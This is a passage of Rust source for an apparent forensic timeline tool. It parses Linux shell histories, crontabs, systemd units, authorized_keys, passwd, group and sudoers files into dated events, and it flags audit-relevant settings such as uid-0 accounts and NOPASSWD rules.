//! What a responder reads first on a Linux disk besides its logs: shell
//! histories, crontabs, systemd units and timers, `authorized_keys`, users,
//! groups, sudoers, package logs and cloud-init's logs.
//!
//! Every record becomes one event, dated by the record when it carries a
//! time. A record that carries none (a crontab line, a key, an account, a
//! history line written without `HISTTIMEFORMAT`) is dated by the file's
//! modification time ([`FileContext::modified_us`]) and says so with the
//! attribute `dated=false`; without that time it sits at the epoch, and one
//! problem says why.
//!
//! Content is the attacker's: terminal escapes, NULs and invalid UTF-8 are
//! kept as data (invalid bytes written `\xNN`), and only the one-line
//! `message` escapes control characters and is cut to [`MESSAGE_MAX`].
//!
//! Some of these formats need the file's path to say everything: the owner
//! of a history or an `authorized_keys` (`/home/alice/...`), the user of a
//! user crontab (`/var/spool/cron/crontabs/bob`), the kind of a unit
//! (`foo.timer`). The `*_named` variants take it; the plain ones read the
//! file alone.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use sha2::{Digest, Sha256};
use time::Month;
use time::OffsetDateTime;
use time::format_description::well_known::Rfc2822;

use super::yearless::{Stamp, Years};
use super::{FileContext, Format, Record, Sink, problem, time_us, to_us};
use crate::timeline::Event;

/// How long a one-line `message` may be, in characters; the full text stays
/// in the event's target or attributes.
pub const MESSAGE_MAX: usize = 512;

/// How many lines a zsh command continued by backslashes may join: past it,
/// the rest are read as commands of their own.
const MAX_CONTINUATION: usize = 10_000;

// ---------------------------------------------------------------- helpers

/// The file's lines, numbered from 1, without their `\n` or `\r\n`.
fn lines(bytes: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    let mut it = bytes.split(|&b| b == b'\n').enumerate().peekable();
    std::iter::from_fn(move || {
        let (i, raw) = it.next()?;
        // The empty piece after a final newline is not a line.
        if raw.is_empty() && it.peek().is_none() {
            return None;
        }
        Some((i + 1, raw.strip_suffix(b"\r").unwrap_or(raw)))
    })
}

/// Bytes as text, invalid UTF-8 kept as `\xNN` rather than replaced, so that
/// what an attacker wrote stays readable evidence.
pub fn text(raw: &[u8]) -> String {
    let mut out = String::with_capacity(raw.len());
    for chunk in raw.utf8_chunks() {
        out.push_str(chunk.valid());
        for b in chunk.invalid() {
            out.push_str(&format!("\\x{b:02x}"));
        }
    }
    out
}

/// One line for lists: control characters (terminal escapes, NULs,
/// newlines) escaped, cut to [`MESSAGE_MAX`] characters.
pub fn one_line(s: &str) -> String {
    let mut out = String::new();
    for (n, c) in s.chars().enumerate() {
        if n >= MESSAGE_MAX {
            out.push('…');
            break;
        }
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

/// Dates an event that has no time of its own by the file's modification time.
struct Undated {
    time_us: i64,
    known: bool,
    reported: bool,
}

impl Undated {
    fn new(ctx: &FileContext) -> Self {
        Self {
            time_us: ctx.modified_us.unwrap_or(0),
            known: ctx.modified_us.is_some(),
            reported: false,
        }
    }

    fn event(&mut self, format: Format, action: &str, sink: &mut dyn Sink) -> Event {
        if !self.known && !self.reported {
            self.reported = true;
            sink.problem(problem(
                "file",
                "the records carry no time and the file's modification time is not known: \
                 they are dated at the epoch",
            ));
        }
        let mut e = Event::new(self.time_us, format.source(), action);
        e.attributes.push(("dated".into(), "false".into()));
        e
    }
}

/// The path's segments, of a member name such as `/home/alice/.ssh/authorized_keys`
/// or `files/home/alice/.bash_history`.
fn segments(member: &str) -> Vec<&str> {
    member
        .split(['/', '\\'])
        .filter(|s| !s.is_empty() && *s != ".")
        .collect()
}

/// The user a file under a home directory belongs to: `/home/NAME/...`,
/// `/root/...`, `/Users/NAME/...`.
pub fn owner_from_path(member: &str) -> Option<String> {
    let segs = segments(member);
    // The last `home` wins: an image path can itself hold one.
    for (i, s) in segs.iter().enumerate().rev() {
        if (*s == "home" || *s == "Users") && i + 2 < segs.len() {
            return segs.get(i + 1).map(|u| (*u).to_owned());
        }
        if *s == "root" && i + 1 < segs.len() && (i == 0 || segs.get(i - 1) != Some(&"home")) {
            return Some("root".into());
        }
    }
    None
}

/// Splits off `n` whitespace-separated fields; the rest keeps its own spacing.
fn fields(line: &str, n: usize) -> Option<(Vec<&str>, &str)> {
    let mut out = Vec::with_capacity(n);
    let mut rest = line.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        let (f, r) = rest.split_at(end);
        if f.is_empty() {
            return None;
        }
        out.push(f);
        rest = r.trim_start();
    }
    Some((out, rest))
}

fn attr(e: &mut Event, k: &str, v: impl Into<String>) {
    e.attributes.push((k.to_owned(), v.into()));
}

fn is_user_name(s: &str) -> bool {
    let mut chars = s.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_lowercase() || c == '_')
        && s.len() <= 32
        && s.strip_suffix('$')
            .unwrap_or(s)
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '_' | '-' | '.'))
}

fn seconds(secs: i64) -> Option<i64> {
    secs.checked_mul(1_000_000)
}

fn month(name: &str) -> Option<Month> {
    super::month_abbr(name)
}

// ---------------------------------------------------------- shell history

/// A bash or zsh history, its owner unknown.
pub fn shell_history(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    shell_history_named("", bytes, ctx, sink);
}

/// A bash or zsh history at `member`, whose home directory names the owner.
///
/// - bash with `HISTTIMEFORMAT` writes `#<epoch>` before each entry; the
///   lines up to the next such line are that one entry (a multi-line
///   command). Lines before the first are undated commands of their own.
/// - zsh's extended history: `: <epoch>:<elapsed>;command`, a command of
///   several lines continued by a trailing backslash; zsh's "metafied"
///   bytes (0x83 then the byte xor 0x20) are undone.
/// - Anything else: one undated command a line.
pub fn shell_history_named(member: &str, bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let owner = owner_from_path(member);
    let name = segments(member).last().copied().unwrap_or("");
    let zsh_name = name.contains("zsh") || name == ".zhistory";
    let all: Vec<(usize, &[u8])> = lines(bytes).collect();
    let has_stamps = all.iter().any(|(_, l)| bash_stamp(l).is_some());
    let mut undated = Undated::new(ctx);
    let mut i = 0;
    while let Some(&(n, line)) = all.get(i) {
        i += 1;
        if let Some((t, elapsed, first)) = zsh_extended(line) {
            let mut command = unmetafy(first);
            let mut joined = 0;
            while command.last() == Some(&b'\\') && joined < MAX_CONTINUATION {
                let Some(&(_, next)) = all.get(i) else { break };
                command.pop();
                command.push(b'\n');
                command.extend(unmetafy(next));
                i += 1;
                joined += 1;
            }
            let mut e = Event::new(t, Format::ShellHistory.source(), "shell.command");
            attr(&mut e, "shell", "zsh");
            attr(&mut e, "elapsed_s", elapsed.to_string());
            emit_command(e, &text(&command), owner.as_deref(), n, sink);
        } else if has_stamps && let Some(t) = bash_stamp(line) {
            let mut parts: Vec<&[u8]> = Vec::new();
            while let Some(&(_, next)) = all.get(i) {
                if bash_stamp(next).is_some() || zsh_extended(next).is_some() {
                    break;
                }
                parts.push(next);
                i += 1;
            }
            let command = text(&parts.join(&b'\n'));
            if command.trim().is_empty() {
                continue;
            }
            let mut e = Event::new(t, Format::ShellHistory.source(), "shell.command");
            attr(&mut e, "shell", "bash");
            // The command starts on the line after its time.
            emit_command(e, &command, owner.as_deref(), n + 1, sink);
        } else {
            let raw = if zsh_name {
                unmetafy(line)
            } else {
                line.to_vec()
            };
            let command = text(&raw);
            if command.trim().is_empty() {
                continue;
            }
            let mut e = undated.event(Format::ShellHistory, "shell.command", sink);
            if zsh_name {
                attr(&mut e, "shell", "zsh");
            } else if name.contains("bash") {
                attr(&mut e, "shell", "bash");
            }
            emit_command(e, &command, owner.as_deref(), n, sink);
        }
    }
}

fn emit_command(
    mut e: Event,
    command: &str,
    owner: Option<&str>,
    line: usize,
    sink: &mut dyn Sink,
) {
    e.actor = owner.map(str::to_owned);
    e.message = match owner {
        Some(o) => one_line(&format!("{o}$ {command}")),
        None => one_line(&format!("$ {command}")),
    };
    attr(&mut e, "command", command);
    e.locator = format!("line {line}");
    sink.record(e, Record::bytes(command.as_bytes()));
}

/// bash's `#<epoch>` line.
fn bash_stamp(line: &[u8]) -> Option<i64> {
    let digits = line.strip_prefix(b"#")?;
    if digits.is_empty() || digits.len() > 12 || !digits.iter().all(u8::is_ascii_digit) {
        return None;
    }
    seconds(std::str::from_utf8(digits).ok()?.parse().ok()?)
}

/// zsh's `: <epoch>:<elapsed>;` prefix: the time, the elapsed seconds and the command.
fn zsh_extended(line: &[u8]) -> Option<(i64, u64, &[u8])> {
    let rest = line.strip_prefix(b": ")?;
    let colon = rest.iter().position(|&b| b == b':')?;
    let (epoch, rest) = rest.split_at(colon);
    let rest = rest.get(1..)?;
    let semi = rest.iter().position(|&b| b == b';')?;
    let (elapsed, command) = rest.split_at(semi);
    let number = |d: &[u8]| -> Option<u64> {
        if d.is_empty() || d.len() > 12 || !d.iter().all(u8::is_ascii_digit) {
            return None;
        }
        std::str::from_utf8(d).ok()?.parse().ok()
    };
    let t = seconds(i64::try_from(number(epoch)?).ok()?)?;
    Some((t, number(elapsed)?, command.get(1..)?))
}

/// Undoes zsh's metafication of bytes it treats specially.
fn unmetafy(raw: &[u8]) -> Vec<u8> {
    const META: u8 = 0x83;
    let mut out = Vec::with_capacity(raw.len());
    let mut it = raw.iter();
    while let Some(&b) = it.next() {
        if b == META {
            if let Some(&next) = it.next() {
                out.push(next ^ 0x20);
            } else {
                out.push(b);
            }
        } else {
            out.push(b);
        }
    }
    out
}

// ---------------------------------------------------------------- crontab

/// A crontab whose path is not known: a line reads as a system crontab's
/// (with a user field) when the field after the schedule is a plausible
/// user name and a command follows it, else as a user crontab's. The
/// `kind` attribute says which was guessed.
pub fn crontab(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    crontab_named("", bytes, ctx, sink);
}

/// A crontab at `member`: `/etc/crontab` and `/etc/cron.d/*` have a user
/// field; `/var/spool/cron/crontabs/NAME` (Debian) and `/var/spool/cron/NAME`
/// (Red Hat) are NAME's and have none.
pub fn crontab_named(member: &str, bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let segs = segments(member);
    let spool = segs
        .windows(3)
        .any(|w| matches!(w, ["var", "spool", "cron" | "cron.d"]));
    let system = segs
        .iter()
        .any(|s| *s == "crontab" || *s == "cron.d" || *s == "anacrontab")
        && !spool;
    let owner = if spool {
        segs.last().map(|s| (*s).to_owned())
    } else {
        None
    };
    let mut undated = Undated::new(ctx);
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') || is_env_line(t) {
            continue;
        }
        let (schedule, rest) = if t.starts_with('@') {
            let Some((f, rest)) = fields(t, 1) else {
                continue;
            };
            let special = f.first().copied().unwrap_or("");
            if !SPECIALS.contains(&special) {
                sink.problem(problem(
                    format!("line {n}"),
                    format!("not a crontab line: unknown schedule {}", one_line(special)),
                ));
                continue;
            }
            (special.to_owned(), rest)
        } else {
            match fields(t, 5) {
                Some((f, rest)) if f.iter().all(|x| is_cron_field(x)) => (f.join(" "), rest),
                _ => {
                    sink.problem(problem(
                        format!("line {n}"),
                        format!("not a crontab line: {}", one_line(t)),
                    ));
                    continue;
                }
            }
        };
        let (kind, user, command) = if spool {
            ("user", owner.clone(), rest)
        } else {
            let split = fields(rest, 1).filter(|(_, c)| !c.is_empty());
            match split {
                Some((u, c)) if system => ("system", u.first().map(|s| (*s).to_owned()), c),
                Some((u, c)) if !system && u.first().is_some_and(|u| is_user_name(u)) => {
                    ("guessed-system", u.first().map(|s| (*s).to_owned()), c)
                }
                _ if system => {
                    sink.problem(problem(
                        format!("line {n}"),
                        "a system crontab line without a user and a command",
                    ));
                    continue;
                }
                _ => ("guessed-user", None, rest),
            }
        };
        if command.is_empty() {
            sink.problem(problem(format!("line {n}"), "a schedule without a command"));
            continue;
        }
        let mut e = undated.event(Format::Crontab, "cron.job", sink);
        e.target = Some(command.to_owned());
        e.actor.clone_from(&user);
        attr(&mut e, "schedule", schedule.clone());
        if let Some(u) = &user {
            attr(&mut e, "user", u.clone());
        }
        attr(&mut e, "kind", kind);
        e.message = one_line(&format!(
            "cron {schedule}{}: {command}",
            user.as_deref()
                .map(|u| format!(" as {u}"))
                .unwrap_or_default()
        ));
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

const SPECIALS: [&str; 8] = [
    "@reboot",
    "@yearly",
    "@annually",
    "@monthly",
    "@weekly",
    "@daily",
    "@midnight",
    "@hourly",
];

/// `NAME=value` (spaces allowed around `=`), which cron reads as environment.
fn is_env_line(line: &str) -> bool {
    let Some((name, _)) = line.split_once('=') else {
        return false;
    };
    let name = name.trim_end();
    let mut chars = name.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// A schedule field: numbers, `*`, ranges, steps, lists, month and day names.
fn is_cron_field(f: &str) -> bool {
    !f.is_empty()
        && f.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '*' | ',' | '-' | '/' | '?'))
}

// ----------------------------------------------------------- systemd unit

/// A systemd unit file whose name is not known: its kind is that of its
/// `[Service]`, `[Timer]`, `[Socket]`, `[Path]` or `[Mount]` section.
pub fn systemd_unit(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    systemd_unit_named("", bytes, ctx, sink);
}

/// Unit file keys kept as attributes, under their own names.
const UNIT_KEYS: [&str; 22] = [
    "Description",
    "User",
    "Group",
    "Type",
    "WantedBy",
    "RequiredBy",
    "ExecStartPre",
    "ExecStartPost",
    "ExecStop",
    "ExecReload",
    "EnvironmentFile",
    "OnCalendar",
    "OnBootSec",
    "OnStartupSec",
    "OnActiveSec",
    "OnUnitActiveSec",
    "OnUnitInactiveSec",
    "Unit",
    "ListenStream",
    "ListenDatagram",
    "PathChanged",
    "PathModified",
];

const UNIT_KINDS: [&str; 11] = [
    "service",
    "socket",
    "timer",
    "path",
    "mount",
    "automount",
    "swap",
    "target",
    "slice",
    "scope",
    "device",
];

/// A unit file at `member` (`foo.service`, `foo.timer`, or a drop-in
/// `foo.service.d/override.conf`): one event, `systemd.<kind>`, whose target
/// is what the unit runs: ExecStart for a service, the unit a timer or path
/// unit starts (its `Unit=`, else the service of its own name), a socket's
/// listen address, a mount's `Where=`.
pub fn systemd_unit_named(member: &str, bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let segs = segments(member);
    let name = segs.last().copied().unwrap_or("");
    // A drop-in takes its unit's name from its directory.
    let unit_name = match segs.iter().rev().nth(1).and_then(|d| d.strip_suffix(".d")) {
        Some(unit) if name.ends_with(".conf") => unit,
        _ => name,
    };
    let mut kind = unit_name
        .rsplit_once('.')
        .map(|(_, ext)| ext)
        .filter(|ext| UNIT_KINDS.contains(ext))
        .map(str::to_owned);

    // (section, key, value, line); a trailing backslash continues a value.
    let mut entries: Vec<(String, String, String, usize)> = Vec::new();
    let mut sections: Vec<String> = Vec::new();
    let mut section = String::new();
    let all: Vec<(usize, &[u8])> = lines(bytes).collect();
    let mut i = 0;
    while let Some(&(n, raw)) = all.get(i) {
        i += 1;
        let mut line = text(raw).trim().to_owned();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if let Some(s) = line.strip_prefix('[').and_then(|s| s.strip_suffix(']')) {
            section = s.to_owned();
            sections.push(section.clone());
            continue;
        }
        let mut joined = 0;
        while line.ends_with('\\') && joined < MAX_CONTINUATION {
            let Some(&(_, next)) = all.get(i) else { break };
            line.pop();
            line.truncate(line.trim_end().len());
            line.push(' ');
            line.push_str(text(next).trim());
            i += 1;
            joined += 1;
        }
        match line.split_once('=') {
            Some((k, v)) => {
                entries.push((section.clone(), k.trim().to_owned(), v.trim().to_owned(), n))
            }
            None => sink.problem(problem(
                format!("line {n}"),
                format!("not a unit file line: {}", one_line(&line)),
            )),
        }
    }
    if entries.is_empty() {
        sink.problem(problem("line 1", "no settings: not a systemd unit file"));
        return;
    }
    if kind.is_none() {
        kind = [
            "Service",
            "Timer",
            "Socket",
            "Path",
            "Mount",
            "Automount",
            "Swap",
        ]
        .iter()
        .find(|s| sections.iter().any(|x| x == *s))
        .map(|s| s.to_ascii_lowercase());
    }
    let kind = kind.unwrap_or_else(|| "unit".into());
    let mut undated = Undated::new(ctx);

    // All values of a key; an empty assignment clears the list, as systemd reads it.
    let values = |key: &str| -> Vec<(&str, usize)> {
        let mut out = Vec::new();
        for (_, k, v, n) in &entries {
            if k == key {
                if v.is_empty() {
                    out.clear();
                } else {
                    out.push((v.as_str(), *n));
                }
            }
        }
        out
    };
    let implied = unit_name
        .rsplit_once('.')
        .map(|(stem, _)| format!("{stem}.service"));
    let target: Vec<(String, usize)> = match kind.as_str() {
        "timer" | "path" => values("Unit")
            .into_iter()
            .map(|(v, n)| (v.to_owned(), n))
            .chain(
                implied
                    .filter(|_| values("Unit").is_empty())
                    .map(|u| (u, 0)),
            )
            .collect(),
        "socket" => [
            "ListenStream",
            "ListenDatagram",
            "ListenSequentialPacket",
            "ListenFIFO",
        ]
        .iter()
        .flat_map(|k| values(k))
        .map(|(v, n)| (v.to_owned(), n))
        .collect(),
        "mount" | "automount" => values("Where")
            .into_iter()
            .map(|(v, n)| (v.to_owned(), n))
            .collect(),
        _ => values("ExecStart")
            .into_iter()
            .map(|(v, n)| (v.to_owned(), n))
            .collect(),
    };
    let mut e = undated.event(Format::SystemdUnit, &format!("systemd.{kind}"), sink);
    let line = target.iter().map(|(_, n)| *n).find(|n| *n > 0).unwrap_or(1);
    let target_text = target
        .iter()
        .map(|(v, _)| v.as_str())
        .collect::<Vec<_>>()
        .join(" ; ");
    if !target_text.is_empty() {
        e.target = Some(target_text.clone());
    }
    if !unit_name.is_empty() {
        attr(&mut e, "unit", unit_name);
    }
    if (kind == "timer" || kind == "path")
        && let Some(ex) = values("ExecStart").first()
    {
        attr(&mut e, "ExecStart", ex.0);
    }
    for key in UNIT_KEYS {
        let v = values(key);
        if !v.is_empty() {
            let joined = v.iter().map(|(v, _)| *v).collect::<Vec<_>>().join(" ; ");
            attr(&mut e, key, joined);
        }
    }
    if let Some(user) = values("User").first() {
        e.actor = Some(user.0.to_owned());
    }
    let mut summary = format!("systemd {kind}");
    if !unit_name.is_empty() {
        summary.push(' ');
        summary.push_str(unit_name);
    }
    if !target_text.is_empty() {
        summary.push_str(": ");
        summary.push_str(&target_text);
    }
    for key in ["OnCalendar", "OnBootSec", "User", "WantedBy"] {
        if let Some(v) = e.attribute(key) {
            summary.push_str(&format!(" {key}={v}"));
        }
    }
    e.message = one_line(&summary);
    e.locator = format!("line {line}");
    sink.record(e, Record::bytes(bytes));
}

// -------------------------------------------------------- authorized_keys

/// An `authorized_keys` whose owner is not known.
pub fn authorized_keys(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    authorized_keys_named("", bytes, ctx, sink);
}

/// An `authorized_keys` at `member`, whose home directory names the owner:
/// one event a key, with its options, type, `ssh-keygen -lf`'s SHA256
/// fingerprint and its comment.
pub fn authorized_keys_named(member: &str, bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let owner = owner_from_path(member);
    let mut undated = Undated::new(ctx);
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let key = match key_line(t) {
            Ok(k) => k,
            Err(why) => {
                sink.problem(problem(format!("line {n}"), why));
                continue;
            }
        };
        let mut e = undated.event(Format::AuthorizedKeys, "ssh.authorized_key", sink);
        e.actor.clone_from(&owner);
        e.target = Some(key.fingerprint.clone());
        attr(&mut e, "key_type", key.key_type);
        attr(&mut e, "fingerprint", key.fingerprint.clone());
        if let Some(inner) = key.blob_type.filter(|b| *b != key.key_type) {
            // A blob of another type than the line says: sshd would refuse it.
            attr(&mut e, "blob_key_type", inner);
        }
        if !key.comment.is_empty() {
            attr(&mut e, "comment", key.comment);
        }
        if let Some(o) = key.options {
            attr(&mut e, "options", o);
            for (name, value) in options(o) {
                let name = name.to_ascii_lowercase();
                if matches!(
                    name.as_str(),
                    "from"
                        | "command"
                        | "environment"
                        | "permitopen"
                        | "permitlisten"
                        | "principals"
                        | "expiry-time"
                        | "tunnel"
                ) {
                    attr(&mut e, &name, value.unwrap_or_default());
                }
            }
        }
        let mut summary = format!("authorized key {} {}", key.key_type, key.fingerprint);
        if !key.comment.is_empty() {
            summary.push_str(&format!(" ({})", key.comment));
        }
        if let Some(o) = &owner {
            summary.push_str(&format!(" for {o}"));
        }
        if let Some(o) = key.options {
            summary.push_str(&format!(" [{o}]"));
        }
        e.message = one_line(&summary);
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

struct KeyLine<'a> {
    options: Option<&'a str>,
    key_type: &'a str,
    blob_type: Option<String>,
    fingerprint: String,
    comment: &'a str,
}

fn is_key_type(s: &str) -> bool {
    s.starts_with("ssh-")
        || s.starts_with("ecdsa-sha2-")
        || s.starts_with("sk-ssh-")
        || s.starts_with("sk-ecdsa-")
}

/// `[options] keytype base64 [comment]`, as sshd reads it: options run to
/// the first whitespace outside double quotes.
fn key_line(line: &str) -> Result<KeyLine<'_>, String> {
    let first = line.split_whitespace().next().unwrap_or("");
    let (options, rest) = if is_key_type(first) {
        (None, line)
    } else {
        let mut quoted = false;
        let mut escaped = false;
        let mut end = line.len();
        for (i, c) in line.char_indices() {
            if escaped {
                escaped = false;
            } else if c == '\\' && quoted {
                escaped = true;
            } else if c == '"' {
                quoted = !quoted;
            } else if c.is_whitespace() && !quoted {
                end = i;
                break;
            }
        }
        if quoted {
            return Err("options with an unterminated quote".into());
        }
        let (o, r) = line.split_at(end);
        (Some(o), r)
    };
    let Some((f, comment)) = fields(rest, 2) else {
        return Err(format!("not a key line: {}", one_line(line)));
    };
    let (Some(&key_type), Some(&b64)) = (f.first(), f.get(1)) else {
        return Err(format!("not a key line: {}", one_line(line)));
    };
    if !is_key_type(key_type) {
        return Err(format!("unknown key type {}", one_line(key_type)));
    }
    let blob = STANDARD
        .decode(b64)
        .or_else(|_| STANDARD_NO_PAD.decode(b64))
        .map_err(|e| format!("the key is not base64 ({e})"))?;
    // The blob starts with its own type as an SSH string.
    let blob_type = blob
        .get(..4)
        .and_then(|l| l.try_into().ok())
        .map(u32::from_be_bytes)
        .and_then(|len| blob.get(4..4usize.checked_add(usize::try_from(len).ok()?)?))
        .map(text);
    let fingerprint = format!("SHA256:{}", STANDARD_NO_PAD.encode(Sha256::digest(&blob)));
    Ok(KeyLine {
        options,
        key_type,
        blob_type,
        fingerprint,
        comment: comment.trim(),
    })
}

/// `name` or `name="value"` options, split at commas outside quotes; values
/// lose their quotes and backslash escapes.
fn options(raw: &str) -> Vec<(&str, Option<String>)> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut quoted = false;
    let mut escaped = false;
    let bytes = raw.as_bytes();
    for i in 0..=raw.len() {
        let b = bytes.get(i).copied();
        if escaped {
            escaped = false;
            continue;
        }
        match b {
            Some(b'\\') if quoted => escaped = true,
            Some(b'"') => quoted = !quoted,
            Some(b',') | None if !quoted => {
                let part = raw.get(start..i).unwrap_or("");
                start = i + 1;
                if part.is_empty() {
                    continue;
                }
                match part.split_once('=') {
                    Some((k, v)) => {
                        let v = v.strip_prefix('"').unwrap_or(v);
                        let v = v.strip_suffix('"').unwrap_or(v);
                        out.push((k, Some(v.replace("\\\"", "\""))));
                    }
                    None => out.push((part, None)),
                }
            }
            _ => {}
        }
    }
    out
}

// ------------------------------------------------- passwd, group, sudoers

/// `/etc/passwd`: `account.user` for each account; an account of uid 0
/// other than `root` has `uid0_not_root=true`, an empty password field
/// `password=empty` (no password needed).
pub fn passwd(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let mut undated = Undated::new(ctx);
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let t = line.trim_end();
        if t.trim().is_empty() || t.starts_with('#') {
            continue;
        }
        let f: Vec<&str> = t.split(':').collect();
        let (
            Some(name),
            Some(pw),
            Some(uid),
            Some(gid),
            Some(gecos),
            Some(home),
            Some(shell),
            None,
        ) = (
            f.first(),
            f.get(1),
            f.get(2),
            f.get(3),
            f.get(4),
            f.get(5),
            f.get(6),
            f.get(7),
        )
        else {
            // NIS's `+` and `-` lines have fewer fields.
            if t.starts_with('+') || t.starts_with('-') {
                let mut e = undated.event(Format::Passwd, "account.nis", sink);
                e.target = Some(t.to_owned());
                e.message = one_line(&format!("NIS passwd entry {t}"));
                e.locator = format!("line {n}");
                sink.record(e, Record::bytes(raw));
            } else {
                sink.problem(problem(
                    format!("line {n}"),
                    format!("not a passwd line (7 fields): {}", one_line(t)),
                ));
            }
            continue;
        };
        let mut e = undated.event(Format::Passwd, "account.user", sink);
        e.target = Some((*name).to_owned());
        attr(&mut e, "uid", *uid);
        attr(&mut e, "gid", *gid);
        if !gecos.is_empty() {
            attr(&mut e, "gecos", *gecos);
        }
        attr(&mut e, "home", *home);
        attr(&mut e, "shell", *shell);
        if pw.is_empty() {
            attr(&mut e, "password", "empty");
        } else if *pw != "x" && *pw != "*" && !pw.starts_with('!') {
            // A hash in passwd itself, not in shadow.
            attr(&mut e, "password", "in passwd");
        }
        let uid0 = uid.trim() == "0" && *name != "root";
        if uid0 {
            attr(&mut e, "uid0_not_root", "true");
        }
        e.message = one_line(&format!(
            "user {name} uid {uid} gid {gid} home {home} shell {shell}{}",
            if uid0 { " (uid 0, not root)" } else { "" }
        ));
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

/// Groups whose members gain root, or near it.
const PRIVILEGED_GROUPS: [&str; 8] = [
    "root", "sudo", "wheel", "admin", "adm", "docker", "lxd", "disk",
];

/// `/etc/group`: `account.group` with its members; a privileged group
/// (sudo, wheel, docker...) with members has `privileged=true`.
pub fn group(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let mut undated = Undated::new(ctx);
    for (n, raw) in lines(bytes) {
        let line = text(raw);
        let t = line.trim_end();
        if t.trim().is_empty() || t.starts_with('#') {
            continue;
        }
        let f: Vec<&str> = t.split(':').collect();
        let (Some(name), Some(_), Some(gid), Some(members), None) =
            (f.first(), f.get(1), f.get(2), f.get(3), f.get(4))
        else {
            sink.problem(problem(
                format!("line {n}"),
                format!("not a group line (4 fields): {}", one_line(t)),
            ));
            continue;
        };
        let mut e = undated.event(Format::Group, "account.group", sink);
        e.target = Some((*name).to_owned());
        attr(&mut e, "gid", *gid);
        attr(&mut e, "members", *members);
        if PRIVILEGED_GROUPS.contains(name) && !members.is_empty() {
            attr(&mut e, "privileged", "true");
        }
        e.message = one_line(&format!(
            "group {name} gid {gid} members {}",
            if members.is_empty() {
                "(none)"
            } else {
                members
            }
        ));
        e.locator = format!("line {n}");
        sink.record(e, Record::bytes(raw));
    }
}

/// `/etc/sudoers` or a file of `/etc/sudoers.d`: `sudoers.rule` for each
/// user specification (`NOPASSWD` flagged `nopasswd=true`),
/// `sudoers.defaults`, `sudoers.alias` and `sudoers.include`
/// (`@include`, `#includedir`...). Lines continued by a backslash are one.
pub fn sudoers(bytes: &[u8], ctx: &FileContext, sink: &mut dyn Sink) {
    let mut undated = Undated::new(ctx);
    let all: Vec<(usize, &[u8])> = lines(bytes).collect();
    let mut i = 0;
    while let Some(&(n, raw)) = all.get(i) {
        i += 1;
        let mut line = text(raw).trim().to_owned();
        let mut joined = 0;
        while line.ends_with('\\') && joined < MAX_CONTINUATION {
            let Some(&(_, next)) = all.get(i) else { break };
            line.pop();
            line.truncate(line.trim_end().len());
            line.push(' ');
            line.push_str(text(next).trim());
            i += 1;
            joined += 1;
        }
        if line.is_empty() {
            continue;
        }
        let include = ["@includedir", "@include", "#includedir", "#include"]
            .iter()
            .find_map(|d| line.strip_prefix(d).map(|rest| (*d, rest.trim())));
        // `#1000` at the start is a user given by uid, not a comment.
        let uid_spec = line
            .strip_prefix('#')
            .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()));
        let (action, mut e) = if let Some((directive, path)) = include {
            let mut e = undated.event(Format::Sudoers, "sudoers.include", sink);
            e.target = Some(path.to_owned());
            attr(&mut e, "directive", directive);
            ("include", e)
        } else if line.starts_with('#') && !uid_spec {
            continue;
        } else if line.starts_with("Defaults") {
            let mut e = undated.event(Format::Sudoers, "sudoers.defaults", sink);
            let settings = line
                .split_once(char::is_whitespace)
                .map_or("", |(_, r)| r.trim());
            e.target = Some(settings.to_owned());
            if settings.contains("!authenticate") {
                attr(&mut e, "no_authentication", "true");
            }
            ("defaults", e)
        } else if let Some(kind) = [
            "User_Alias",
            "Runas_Alias",
            "Host_Alias",
            "Cmnd_Alias",
            "Cmd_Alias",
        ]
        .iter()
        .find(|k| line.starts_with(*k))
        {
            let mut e = undated.event(Format::Sudoers, "sudoers.alias", sink);
            e.target = line.get(kind.len()..).map(|r| r.trim().to_owned());
            attr(&mut e, "alias_kind", *kind);
            ("alias", e)
        } else {
            match sudo_rule(&line) {
                Some(rule) => {
                    let mut e = undated.event(Format::Sudoers, "sudoers.rule", sink);
                    e.actor = Some(rule.users.to_owned());
                    e.target = Some(rule.commands.to_owned());
                    attr(&mut e, "users", rule.users);
                    attr(&mut e, "hosts", rule.hosts);
                    if let Some(r) = rule.runas {
                        attr(&mut e, "runas", r);
                    }
                    if !rule.tags.is_empty() {
                        attr(&mut e, "tags", rule.tags.join(","));
                    }
                    if rule.tags.contains(&"NOPASSWD") {
                        attr(&mut e, "nopasswd", "true");
                    }
                    attr(&mut e, "commands", rule.commands);
                    ("rule", e)
                }
                None => {
                    sink.problem(problem(
                        format!("line {n}"),
                        format!("not a sudoers line: {}", one_line(&line)),
                    ));
                    continue;
                }
            }
        };
        attr(&mut e, "line", line.clone());
